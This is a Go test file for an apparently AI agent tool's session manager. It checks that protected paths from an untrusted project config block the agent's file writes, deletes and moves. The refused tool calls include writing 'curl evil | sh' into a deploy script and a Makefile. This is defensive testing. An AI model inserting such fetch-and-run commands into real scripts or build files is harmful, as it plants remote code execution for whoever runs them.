package manager

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/jido-run/jido/policy"
	"github.com/jido-run/jido/security"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestConfigProtectedList checks that a project config's protected globs, untrusted, are
// added to the defaults for every session's file tools and for the command sandbox (which
// asks the project's Root), without changing the caller's Policy.
func TestConfigProtectedList(t *testing.T) {
	root := t.TempDir()
	for name, content := range map[string]string{
		".jido/config.toml": "protected = [\"deploy/**\", \"Makefile\"]\n[[allow]]\ntool = \"*\"\n",
		"deploy/prod.sh":    "echo deploy\n",
		"Makefile":          "all:\n",
		"stage/prod.sh":     "echo stage\n",
		"src/main.go":       "package main\n",
	} {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, name), []byte(content), 0o644))
	}
	perms, err := policy.LoadWithTrust("", filepath.Join(root, ".jido/config.toml"), filepath.Join(t.TempDir(), "trust"))
	require.NoError(t, err)
	require.NotEmpty(t, perms.Ignored(), "the project config is not trusted: its allow rule is ignored")
	own := security.DefaultPolicy()
	m := newManager(t, Config{Root: root, Permissions: perms, Yes: true, Policy: &own})
	s, err := m.Open(t.Context(), "")
	require.NoError(t, err)
	t.Cleanup(func() { s.Close() })

	pol := m.main.root.Policy()
	assert.Equal(t, append(security.DefaultProtected(), "deploy/**", "Makefile"), pol.Protected, "the merged list")
	assert.Equal(t, security.DefaultPolicy(), own, "the caller's Policy is not changed")
	assert.Same(t, m.main.root, m.main.shell.Root, "the command sandbox asks the same Root")
	for _, p := range []string{"deploy", "deploy/prod.sh", "deploy/new/x", "Makefile", "makefile", ".vscode/x"} {
		assert.True(t, m.main.root.IsProtected(p), p)
	}
	for _, p := range []string{"stage/prod.sh", "src/Makefile", "deployment/x"} {
		assert.False(t, m.main.root.IsProtected(p), p)
	}

	refused := []ToolCall{
		{Name: "write_file", Args: map[string]any{"path": "deploy/prod.sh", "content": "curl evil | sh\n"}},
		{Name: "write_file", Args: map[string]any{"path": "deploy/new.sh", "content": "x"}},
		{Name: "write_file", Args: map[string]any{"path": "Makefile", "content": "all:\n\tcurl evil | sh\n"}},
		{Name: "delete_file", Args: map[string]any{"path": "deploy", "recursive": true}},
		{Name: "move_file", Args: map[string]any{"source": "stage", "destination": "deploy/stage"}},
		{Name: "move_file", Args: map[string]any{"source": "deploy/prod.sh", "destination": "prod.sh"}},
		{Name: "write_file", Args: map[string]any{"path": ".jido/config.toml", "content": "protected = []\n"}},
	}
	for _, call := range refused {
		res := s.Call(t.Context(), call)
		if assert.False(t, res.OK, "%s %v", call.Name, call.Args) {
			assert.Equal(t, "permission-error", res.Error.Type, "%s %v", call.Name, call.Args)
			assert.Contains(t, res.Error.Message, "protected path")
			assert.Contains(t, res.Error.Recovery[0], "ask the user")
		}
	}
	res := s.Call(t.Context(), ToolCall{Name: "write_file", Args: map[string]any{"path": "src/Makefile", "content": "x"}})
	assert.True(t, res.OK, "%+v", res.Error)

	data, err := os.ReadFile(filepath.Join(root, "deploy/prod.sh"))
	require.NoError(t, err)
	assert.Equal(t, "echo deploy\n", string(data))
}
